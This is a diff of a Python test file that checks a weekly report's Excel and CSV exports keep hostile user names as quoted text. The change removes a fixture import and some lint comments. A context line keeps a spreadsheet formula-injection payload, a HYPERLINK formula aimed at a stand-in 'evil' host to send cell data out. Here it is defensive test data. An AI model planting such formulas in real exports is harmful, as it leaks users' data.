@@ -15,7 +15,6 @@ from service.spreadsheets import FORMULA_STARTS, append_row
 from service.weekly import Week, build_weekly_report
 from service.weekly_output import csv_text, workbook
 from support import staff_browser
-from test_weekly import week_of_cases  # noqa: F401  (the synthetic week 2026-W09, a fixture)
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
 # display names as hostile people would set them: each starts a formula in Excel, LibreOffice or WPS
@@ -41,7 +40,7 @@ def assert_no_formula_text(value):
     assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value
 
 
-def test_the_weekly_workbook_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):  # noqa: F811
+def test_the_weekly_workbook_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):
     data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow()).data
     book = load_workbook(io.BytesIO(workbook(data)))
     texts, numbers = [], []
@@ -60,7 +59,7 @@ def test_the_weekly_workbook_keeps_hostile_names_as_quoted_text(db, week_of_case
     assert numbers  # the ranking's counts and the hours overdue are still numbers
 
 
-def test_the_weekly_csv_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):  # noqa: F811
+def test_the_weekly_csv_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):
     data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow()).data
     rows = list(csv.reader(io.StringIO(csv_text(data).lstrip("\ufeff"))))
     cells = [cell for row in rows for cell in row]
